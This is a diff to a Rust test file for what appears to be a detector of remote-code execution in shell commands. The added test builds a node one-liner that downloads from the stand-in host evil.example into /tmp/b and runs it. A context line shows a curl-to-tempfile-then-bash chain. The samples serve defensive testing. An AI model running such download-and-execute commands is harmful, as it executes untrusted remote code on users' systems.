@@ -14,6 +14,23 @@ fn of_kind(command: &str, kind: &str) -> Vec<String> {
 const EVIL: &str = "https://evil.example/x";
 
 #[test]
+fn a_download_is_found_again_where_a_stream_wrote_it() {
+    let get = "require('https').get('URL', r => r.pipe(require('fs').createWriteStream('/tmp/b')))";
+    let run = "require('child_process').execFile('/tmp/b')";
+    let other = "require('child_process').execFile('/tmp/c')";
+    let found = |run: &str| {
+        let code = format!("node -e \"{get}; {run}\"").replace("URL", EVIL);
+        of_kind(&code, "exec.remote_code")
+    };
+    assert!(
+        found(run).iter().any(|action| action.contains(EVIL)),
+        "{:?}",
+        found(run)
+    );
+    assert_eq!(found(other), Vec::<String>::new());
+}
+
+#[test]
 fn a_download_is_found_again_where_a_part_of_its_path_is_only_known_later() {
     for command in [
         "T=$(mktemp); curl -so \"$T\" URL; bash \"$T\"",
